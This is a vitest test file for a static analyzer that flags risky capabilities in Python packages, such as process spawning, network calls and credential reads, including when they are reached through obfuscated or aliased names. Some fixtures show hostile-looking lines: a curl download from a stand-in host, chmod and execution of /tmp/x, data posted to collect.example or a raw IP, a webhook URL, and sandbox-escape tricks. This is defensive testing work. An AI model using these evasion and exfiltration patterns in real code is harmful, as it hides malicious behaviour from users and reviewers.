import type { Signal } from "@packhouse/contract/review/inspection";
import { describe, expect, test } from "vitest";
import { atLeast, found, signalsOf } from "../testing/signals-of-sources.ts";

const inModule = (text: string): Signal[] => signalsOf({ files: { "orchard/__init__.py": text } });

describe("what code reaches, however it is named", () => {
  test.each([
    ["import os\ndef f(): os.system('make')", "process", "os.system"],
    ["import subprocess as s\ndef f(x): s.run(x)", "process", "subprocess.run"],
    ["from os import system as run\ndef f(x): run(x)", "process", "os.system"],
    ["from os import *\ndef f(x): system(x)", "process", "os.system"],
    ["def f(x): __import__('os').system(x)", "process", "os.system"],
    ["import importlib\ndef f(x): importlib.import_module('os').popen(x)", "process", "os.popen"],
    ["import os\ndef f(x): getattr(os, 'system')(x)", "process", "os.system"],
    ["def f(u): __import__('urllib.request').request.urlopen(u)", "network", "urllib.request.urlopen"],
    ["def f(u): __import__('urllib.request', None, None, ['x']).urlopen(u)", "network", "urllib.request.urlopen"],
    ["import os\ng = os\nh = g.system\ndef f(x): h(x)", "process", "os.system"],
    ["import sys\ndef f(x): sys.modules['os'].system(x)", "process", "os.system"],
    ["import os, threading\ndef f(x): threading.Thread(target=os.system, args=(x,)).start()", "process", "os.system"],
    ["import requests\ndef f(u): return requests.get(u)", "network", "requests.get"],
    ["import requests\ns = requests.Session()\ndef f(u): return s.post(u)", "network", "requests.Session().post"],
    ["from urllib.request import urlopen\ndef f(u): return urlopen(u)", "network", "urllib.request.urlopen"],
    ["from pip._vendor import requests\ndef f(u): return requests.get(u)", "network", "requests.get"],
    ["from six.moves.urllib.request import urlopen\ndef f(u): urlopen(u)", "network", "urllib.request.urlopen"],
    ["import pyperclip\ndef f(): return pyperclip.paste()", "clipboard", "pyperclip.paste"],
    ["import keyring\ndef f(): return keyring.get_password('a', 'b')", "keyring", "keyring.get_password"],
    ["import logging.handlers as h\ndef f(): h.HTTPHandler('a', '/b')", "network", "logging.handlers.HTTPHandler"],
    ["from multiprocessing.connection import Client\ndef f(a): Client(a)", "network", "multiprocessing.connection"],
    ["import boto3\ndef f(a): boto3.client('s3').upload_file(a, 'b', 'c')", "network", "boto3.client().upload_file"],
    ["from multiprocessing.util import spawnv_passfds as s\ndef f(a): s(a, [], ())", "process", "multiprocessing.util"],
    ["import shutil\ndef f(x): shutil.os.system(x)", "process", "os.system"],
    ["from shutil import os\ndef f(x): os.system(x)", "process", "os.system"],
    ["import os.path\ndef f(x): os.path.os.system(x)", "process", "os.system"],
    ["import os\ndef f(x): os.syﬆem(x)", "process", "os.system"],
    ["import os\ndef f(x): ｏｓ.syſtem(x)", "process", "os.system"],
    ["import os\ndef f(x): os.system.__call__(x)", "process", "os.system"],
    ["import os\ndef f(x): os.__dict__.get('system')(x)", "process", "os.system"],
    ["import sys\ndef f(x): sys.modules.get('os').system(x)", "process", "os.system"],
    ["import os, operator\ndef f(x): operator.attrgetter('system')(os)(x)", "process", "os.system"],
    ["import os, operator\ndef f(x): operator.methodcaller('system', x)(os)", "process", "os.system"],
    ["import pkgutil\ndef f(x): pkgutil.resolve_name('os:system')(x)", "process", "os.system"],
    ["import subprocess\nclass P(subprocess.Popen): pass\ndef f(x): P(x)", "process", "subprocess.Popen"],
    ["import os\ndef f(x): return {'a': os.system}", "process", "os.system"],
    ["import os\ndef f(x): return [os.system]", "process", "os.system"],
    ["def f(loop, x): loop.subprocess_shell(None, x)", "process", "asyncio"],
    ["import pydoc\ndef f(x): pydoc.pipepager('', x)", "process", "pydoc.pipepager"],
    ["import posix\ndef f(x): posix.posix_spawn(x, [], {})", "process", "posix.posix_spawn"],
    [
      "try:\n    from .own import subprocess\nexcept ImportError:\n    import subprocess\ndef f(x): subprocess.run(x)",
      "process",
      "subprocess.run",
    ],
    [`import os\n${"x = None\n".repeat(9)}x = os.system\ndef f(y): x(y)`, "process", "os.system"],
  ])("%j reaches it", (text, id, subject) => {
    const topic = subject.split(".")[0];
    const signals = inModule(text).filter((candidate) => candidate.id === id);
    const signal = signals.find(({ excerpt }) => excerpt === null);
    expect(signal).toMatchObject({ level: "warning", subject: topic, file: "orchard/__init__.py" });
    expect(atLeast(signals, "warning")).toEqual([signal]);
    expect(signal?.line).toBe(text.split("\n").length);
  });

  test("a name that no import explains is not theirs", () => {
    expect(inModule("def f(requests, os):\n    requests.get('x')\n    os.system('x')\n")).toEqual([]);
    expect(inModule("from .net import requests\ndef f(): requests.get('x')\n")).toEqual([]);
    expect(inModule('"""Use os.system("ls") with care."""\n# os.system("ls")\n')).toEqual([]);
  });
});

test("only the first use of a module is news, later ones are notices", () => {
  const before = inModule("import subprocess\ndef f(x): subprocess.run(x)\n");
  const after = inModule("import subprocess\ndef e(y): subprocess.call(y)\ndef f(x): subprocess.run(x)\n");
  expect(found(before)).toEqual(["warning process subprocess"]);
  expect(found(after)).toEqual(["warning process subprocess", "notice process subprocess.run"]);
  const isKnown = ({ id, subject, excerpt }: Signal): boolean =>
    before.some((old) => old.id === id && old.subject === subject && old.excerpt === excerpt);
  expect(atLeast(after, "warning").every(isKnown)).toBe(true);
});

test("writing a temporary file is not suspicious", () => {
  const base = "import subprocess\ndef a(x): subprocess.run(x)\n";
  const text = "def f(): subprocess.run(['gnuplot', '-o', '/tmp/plot.png'])\n";
  expect(atLeast(inModule(base + text), "warning")).toHaveLength(1);
});

test("what flit leaves out of the wheel is the project's own", () => {
  const backend = (name: string) => `[build-system]\nbuild-backend = "${name}"\n[project]\nname = "orchard"\n`;
  const files = (project: string) => ({
    ...{ "pyproject.toml": project, "orchard/__init__.py": "", "utils/__init__.py": "" },
    "utils/fetch.py": "import requests\nrequests.get('https://a.example/words.zip')\n",
  });
  const warnings = (project: string) => found(atLeast(signalsOf({ files: files(project) }), "warning"));
  expect(warnings(backend("flit_core.buildapi"))).toEqual([]);
  expect(warnings(backend("hatchling.build"))).toContain("warning py-import-time-call requests.get");
  const named = `${backend("flit_core.buildapi")}[tool.flit.module]\nname = "utils"\n`;
  expect(warnings(named)).toContain("warning py-import-time-call requests.get");
  const ownBackend = backend("flit_core.buildapi").replace("[project]", 'backend-path = ["."]\n[project]');
  expect(warnings(ownBackend)).toContain("warning py-import-time-call requests.get");
});

describe("a later use is a warning if its details are suspicious", () => {
  const base = "import subprocess, requests\ndef a(x): subprocess.run(x)\ndef b(x): requests.get(x)\n";
  test.each([
    ["def f(): subprocess.run('curl -o x http://a.example/x', shell=True)", "process"],
    ["def f(): subprocess.run([sys.executable, '-m', 'pip install', name])", "process"],
    ["def f(): subprocess.run('chmod 700 /tmp/x', shell=True)", "process"],
    ["def f(): subprocess.run(['/tmp/x'])", "process"],
    ["CMD = 'powershell -Command x'\ndef f(): subprocess.Popen(CMD)", "process"],
    ["def f(data): requests.post('https://collect.example/', data)", "network"],
    ["def f(data): requests.post(f'http://203.0.113.7:8080/{data}')", "network"],
    ["HOOK = 'https://discord.com/api/webhooks/1/2'", "network"],
  ])("%j", (text, id) => {
    const warnings = atLeast(inModule(`${base}${text}\n`), "warning");
    expect(warnings.filter((signal) => signal.id === id && signal.excerpt !== null)).not.toEqual([]);
    expect(atLeast(inModule(base), "warning").filter(({ excerpt }) => excerpt !== null)).toEqual([]);
  });
});

test.each([
  ["import os\nclass A:\n    def f(self, x):\n        self.run = os.system\n        self.run(x)", "warning process os"],
  ["import os\nclass A:\n    __class_getitem__ = os.system", "warning py-import-time-call os.system"],
  ["import os\n@os.system\n@(lambda _: x)\nclass A: pass", "warning py-import-time-call os.system"],
  ["def f(): return ().__class__.__base__.__subclasses__()", "warning process __subclasses__"],
  ["import os\ndef f(x, y): getattr(os, y)(x)", "warning process getattr(os)"],
  [
    "import ctypes\ndef f(x): ctypes.pythonapi.PyRun_SimpleString(x)",
    "warning process ctypes.pythonapi.PyRun_SimpleString",
  ],
])("%j is %j", (text, expected) => {
  expect(found(inModule(text))).toContain(expected);
});

test.each([
  "class A: pass\ndef f(): return A.__subclasses__()",
  "import os\ndef f(mode): return getattr(os, 'O_' + mode)",
  "import subprocess\ndef f(p: subprocess.Popen): return p",
  "import zmq\ndef f(): return zmq.Context().socket(zmq.PUSH)",
])("%j reaches nothing", (text) => {
  expect(atLeast(inModule(text), "notice")).toEqual([]);
});

describe("code in a file", () => {
  test.each([
    "from pathlib import Path\ndef f():\n    exec((Path(__file__).parent / 'colors').read_text())",
    "def f(p):\n    with open(p) as file:\n        code = file.read()\n    exec(compile(code, p, 'exec'))",
    "from importlib.machinery import SourceFileLoader\ndef f(): SourceFileLoader('c', 'colors.dat').load_module()",
    "import importlib.util as u\ndef f(p): u.spec_from_file_location('c', p + '/colors.png')",
    "import runpy\ndef f(): runpy.run_path('colors.txt')",
  ])("%j runs it", (text) => {
    expect(atLeast(inModule(text), "warning").map(({ id }) => id)).toContain("code-from-file");
  });
  test.each([
    "import importlib.util as u\ndef f(p): return u.spec_from_file_location('plugin', p)",
    "def f(code): exec(code)",
  ])("%j may, as plugins do", (text) => {
    expect(atLeast(inModule(text), "warning")).toEqual([]);
  });
});
